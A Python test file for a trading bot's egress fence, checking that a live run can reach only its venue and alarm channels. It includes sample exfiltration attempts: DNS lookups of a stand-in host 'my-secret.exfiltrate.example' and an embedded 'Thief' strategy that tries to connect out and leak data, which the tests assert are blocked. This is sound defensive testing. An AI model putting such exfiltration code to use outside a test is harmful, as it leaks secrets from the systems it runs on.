"""F10.8: a live run connects to its venue and its alarm channels, and to nothing else."""

import asyncio
import contextlib
import http.client
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import urllib.request
from pathlib import Path
from types import SimpleNamespace

import aiohttp
import pytest

sys.path.insert(0, str(Path(__file__).parents[1] / "helpers"))
from tests.helpers.served_scene import served

from bot4.app import config
from bot4.app.api.tokens import new_token, token_file
from bot4.app.egress import EgressBlocked, Fence, Place, Told, alarm_places, fenced, place_of
from bot4.app.trail import Trail, access_folder
from bot4.model.errors import ConfigError
from bot4.monitoring.alarms import AppriseChannel
from bot4.ports import journal as port
from bot4.ports.alarm import FakeAlarm
from bot4.ports.clock import FakeClock
from bot4.storage.journal import JournalReader
from helpers import markets as m

NAME = "venue.test"
pytestmark = pytest.mark.filterwarnings(
    "ignore::DeprecationWarning:apprise", "ignore::DeprecationWarning:requests"
)


@contextlib.contextmanager
def listener():
    """A port on this machine, and how many have connected to it."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.05)
        seen, over = [], threading.Event()

        def work():
            while not over.is_set():
                with contextlib.suppress(TimeoutError):
                    seen.append(server.accept()[0])

        thread = threading.Thread(target=work)
        thread.start()
        try:
            yield SimpleNamespace(port=server.getsockname()[1], seen=seen)
        finally:
            over.set()
            thread.join()
            for line in seen:
                line.close()


def by_socket(port):
    socket.create_connection(("127.0.0.1", port), 5).close()


def by_http(port):
    line = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
    try:
        line.connect()
    finally:
        line.close()


def by_urllib(port):
    urllib.request.urlopen(f"http://127.0.0.1:{port}", timeout=5)


def by_aiohttp(port):
    async def ask():
        async with aiohttp.ClientSession() as session, session.get(f"http://127.0.0.1:{port}"):
            pass

    asyncio.run(ask())


def by_asyncio(port):
    async def ask():
        await asyncio.open_connection("127.0.0.1", port)

    asyncio.run(ask())


def by_datagram(port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(b"secret", ("127.0.0.1", port))


def by_message(port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendmsg([b"secret"], [], 0, ("127.0.0.1", port))


def by_ipv4_in_ipv6(port):
    with socket.socket(socket.AF_INET6) as line:
        line.connect(("::ffff:127.0.0.1", port))


@pytest.mark.parametrize(
    "way",
    [by_socket, by_http, by_urllib, by_aiohttp, by_asyncio, by_datagram, by_message, by_ipv4_in_ipv6],
)
def test_f10_8_whatever_the_library_a_connection_elsewhere_is_blocked(way):
    blocked = []
    with listener() as elsewhere, fenced([place_of("127.0.0.1:1"), place_of(NAME)], blocked.append):
        with pytest.raises(OSError) as caught:
            way(elsewhere.port)
        assert "blocked" in str(caught.value) or isinstance(caught.value.__cause__, EgressBlocked)
        assert len(blocked) == 1 and str(elsewhere.port) in blocked[0]
    assert elsewhere.seen == []


def test_f10_8_what_is_allowed_passes_and_afterwards_everything_does():
    blocked = []
    with listener() as venue, listener() as elsewhere:
        with fenced([place_of(f"http://localhost:{venue.port}")], blocked.append):
            socket.create_connection(("localhost", venue.port), 5).close()  # the look-up gave the address
            with pytest.raises(EgressBlocked):
                socket.create_connection(("127.0.0.1", elsewhere.port), 5)
            ours, theirs = socket.socketpair()  # within the process
            ours.send(b"x")
            ours.close()
            theirs.close()
        by_socket(elsewhere.port)
        assert blocked == [f"127.0.0.1:{elsewhere.port}"]
        with fenced([], blocked.append):
            with pytest.raises(ConfigError, match="another live run"), fenced([], blocked.append):
                pass
            with pytest.raises(EgressBlocked):
                by_socket(venue.port)


def test_f10_8_names_and_local_sockets_count_too(tmp_path):
    """Asking for the address of a name is a way out by itself: the name can carry what was stolen."""
    blocked = []
    with fenced([place_of(NAME)], blocked.append):
        for ask in (socket.getaddrinfo, lambda host, port: socket.gethostbyname(host)):
            with pytest.raises(EgressBlocked, match=r"egress\.allow"):
                ask("my-secret.exfiltrate.example", 443)
        with socket.socket(socket.AF_UNIX) as line, pytest.raises(EgressBlocked):
            line.connect(str(tmp_path / "daemon.sock"))
        with socket.socket() as line, pytest.raises(EgressBlocked):
            line.connect(("localhost", 443))
    assert len(blocked) == 4


def test_f10_8_an_address_is_allowed_once_an_allowed_name_has_given_it():
    fence = Fence(frozenset([Place(NAME, 443)]), lambda where: None)
    assert fence.may_ask(NAME) and fence.may_ask(b"VENUE.test.") and fence.may_ask(None)
    assert not fence.may_ask(f"x.{NAME}")
    assert not fence.may_connect("203.0.113.7", 443)
    fence.learn("other.example", [(2, 1, 6, "", ("203.0.113.8", 443))])
    fence.learn(NAME, [(2, 1, 6, "", ("203.0.113.7", 443)), (10, 1, 6, "", ("2001:db8::7", 443, 0, 0))])
    assert fence.may_connect("203.0.113.7", 443) and fence.may_connect("2001:DB8:0::7", 443)
    assert not fence.may_connect("203.0.113.7", 80) and not fence.may_connect("203.0.113.8", 443)


@pytest.mark.parametrize(
    ("text", "place"),
    [
        ("Api.Example.org", ("api.example.org", 0)),
        ("api.example.org:8443", ("api.example.org", 8443)),
        ("https://api.example.org/x?y", ("api.example.org", 443)),
        ("wss://stream.example.org:9443/ws", ("stream.example.org", 9443)),
        ("[2001:db8::1]:443", ("2001:db8::1", 443)),
        ("2001:db8::1", ("2001:db8::1", 0)),
    ],
)
def test_places_are_read(text, place):
    assert place_of(text) == Place(*place)


@pytest.mark.parametrize(
    "text", ["", " ", "*", "*.example.org", "a b", "host:port", "host:99999", "10.0.0.0/8"]
)
def test_what_is_no_place_is_refused(text):
    with pytest.raises(ConfigError, match="HOST or HOST:PORT"):
        place_of(text)


def test_alarm_channels_are_allowed_by_what_their_plugin_says():
    hosts = [
        host
        for url in (
            "json://127.0.0.1:8080/x",
            "tgram://123456789:abcdefg_hijklmnop/12315544/",
            "mailtos://u:p@gmail.com",
        )
        for host in AppriseChannel(url).hosts()
    ]
    settings = config.load(
        None,
        ["alarm.heartbeat_url=https://hc.example.org/canary-uuid", "egress.allow=a.example, b.example:8443"],
    )
    places = alarm_places(settings, hosts)
    for wanted in (
        Place("127.0.0.1", 8080),
        Place("api.telegram.org", 443),
        Place("smtp.gmail.com", 0),
        Place("hc.example.org", 443),
        Place("a.example", 0),
        Place("b.example", 8443),
    ):
        assert wanted in places, (wanted, places)
    assert "abcdefg" not in str(places) and "123456789" not in str(places) and "canary" not in str(places)


def test_the_alarm_test_says_which_host_is_missing(tmp_path, monkeypatch):
    channels = tmp_path / "channels"
    with listener() as there:
        channels.write_text(f"json://127.0.0.1:{there.port}/x\n")
        monkeypatch.setattr(AppriseChannel, "hosts", lambda self: [])
        answer = m.bot4("alarm", "test", "--set", f"alarm.channels={channels}")
        assert answer.code == 4 and f"blocked: 127.0.0.1:{there.port}, name it in egress.allow" in answer.err
    assert there.seen == []


def test_every_attempt_is_written_and_the_same_place_told_once_a_minute(tmp_path):
    clock, alarm = FakeClock(10**18), FakeAlarm()
    trail = Trail(tmp_path / "j", clock, alarm)
    told = Told(trail, alarm, clock)
    for _ in range(3):
        told("a.example:443")
    told("b.example:443")
    clock.advance(61 * 10**9)
    told("a.example:443")
    trail.close()
    notes = [b.payload for b in JournalReader(access_folder(tmp_path / "j") / "0001").blocks(port.NOTE)]
    assert [n["where"][0] for n in notes] == ["a", "a", "a", "b", "a"]
    assert [text.split()[2][0] for level, text in alarm.told if level == "critical"] == ["a", "b", "a"]


# --- the real thing ------------------------------------------------------------------------------

STRATEGY = '''
import json
import socket
from pathlib import Path

from bot4.strategies.api import Strategy


class Thief(Strategy):
    """Wants to be long, and to tell somebody."""

    def on_start(self, data_dir):
        self.done = False

    def on_bar(self, bar):
        if not self.done:
            self.done = True
            said = []
            for ask in (
                lambda: socket.create_connection(("127.0.0.1", ELSEWHERE), 5),
                lambda: socket.getaddrinfo("my-secret.exfiltrate.example", 443),
            ):
                try:
                    ask()
                    said.append("through")
                except OSError as error:
                    said.append(type(error).__name__)
            Path(__file__).with_name("thief.json").write_text(json.dumps(said))
        return 1.0
'''
SETS = (
    "strategy.fixed_size=0.02", "bars.kind=tick", "bars.ticks=1", "safety.protection_interval=50ms",
    "safety.max_order_value=100000 USDT", "quality.outlier_move=90 %", "risk.max_position=100 %",
    "risk.max_order=100 %", "risk.max_asset=100 %", "risk.max_heat=1000 %", "risk.max_open_risk=100 %",
    "live.wind_down=5s", "panic.latency=1m", "panic.stale_after=1m",
)  # fmt: skip
KEY = "practice-main"


def held(exchange):
    with contextlib.suppress(KeyError, ValueError):
        return sum(int(p.qty) for p in exchange.account(KEY).positions.values())
    return 0


async def test_f10_8_a_strategy_that_steals_gets_nothing_out_and_trading_goes_on_until_the_api_stops_it(
    tmp_path, monkeypatch
):
    """One real process: a thief inside, the state read over the API, the stop over the API, the late result."""
    for name in ("CONTROL", "STATE", "KEY"):
        monkeypatch.setenv(f"BOT4_{name}_DIR", str(tmp_path / name.lower()))
    stop = new_token(token_file(tmp_path / "key"), "phone", "stop", 1)
    with listener() as elsewhere:
        (tmp_path / "thief.py").write_text(STRATEGY.replace("ELSEWHERE", str(elsewhere.port)))
        async with served(practice=True) as server:
            exchange = server.gateway.desks["usdm"].exchange
            command = [
                sys.executable, "-m", "bot4.app.main", "run", "--endpoint", f"http://127.0.0.1:{server.port}",
                "--strategy", f"{tmp_path / 'thief.py'}:Thief", "--json", "--out", str(tmp_path / "j"),
                "--api", "127.0.0.1:0", *(word for text in SETS for word in ("--set", text)),
            ]  # fmt: skip
            with (tmp_path / "out").open("w") as out, (tmp_path / "err").open("w") as err:
                process = subprocess.Popen(command, stdout=out, stderr=err)
            try:
                place = tmp_path / "control" / "bot4-control" / f"run-{process.pid}.api"
                async with asyncio.timeout(120):
                    while not (held(exchange) and place.exists() and (tmp_path / "thief.json").exists()):
                        assert process.poll() is None, (tmp_path / "err").read_text()
                        await asyncio.sleep(0.05)
                url, headers = place.read_text().strip(), {"Authorization": f"Bearer {stop}"}
                async with aiohttp.ClientSession(url, headers=headers) as session:
                    async with asyncio.timeout(30):
                        while True:
                            async with session.get("/state") as reply:
                                state = await reply.json()
                            if (state["positions"] or {}).get("count") == 1:
                                break
                            await asyncio.sleep(0.05)
                    async with session.get("/health") as reply:
                        assert (reply.status, (await reply.json())["status"]) == (200, "ok")
                    async with session.post("/stop", json={"reason": "thief"}) as reply:
                        assert reply.status == 202
                async with asyncio.timeout(60):
                    while process.poll() is None:
                        await asyncio.sleep(0.05)
            finally:
                if process.poll() is None:
                    os.kill(process.pid, signal.SIGKILL)
                process.wait()
            said = (tmp_path / "err").read_text()
            assert held(exchange) == 0 and not exchange.open_orders(KEY), said
    # nothing got out
    assert json.loads((tmp_path / "thief.json").read_text()) == ["EgressBlocked", "EgressBlocked"]
    assert elsewhere.seen == []
    flat = " ".join(said.split())
    assert f"connection to 127.0.0.1:{elsewhere.port} blocked" in flat
    notes = [b.payload for b in JournalReader(access_folder(tmp_path / "j") / "0001").blocks(port.NOTE)]
    assert [n["what"] for n in notes] == ["connection blocked", "connection blocked", "read", "stop"]
    assert m.bot4("audit", "verify", access_folder(tmp_path / "j") / "0001").code == 0
    assert '"token": "phone"' in m.bot4("audit", "export", access_folder(tmp_path / "j") / "0001").out
    # what was told over the API: no position, no result of now
    assert (state["kind"], state["mode"], state["status"]) == ("live", "normal", "ok")
    assert state["positions"]["value"] > 0 and state["venue"]["private_stream"] == "up"
    assert state["result"]["equity"] is None and state["result"]["as_of"] is None and state["result"]["next"]
    for word in ("unrealised", "entry", "stop_price", "BTC", "ETH"):
        assert word not in json.dumps(state["positions"])
    # the end: counts as they are, the result as of the last close, of which there is none yet
    document = json.loads((tmp_path / "out").read_text())
    assert document["ended_by"].startswith("kill switch: api: phone from 127.0.0.1: thief")
    assert document["fills"] >= 2 and document["orders"] >= 2
    for figure in ("pnl_net", "return_net", "equity_end", "fees", "funding", "as_of", "end_equity"):
        assert document[figure] is None, figure
    assert list((tmp_path / "control" / "bot4-control").glob("run-*")) == []
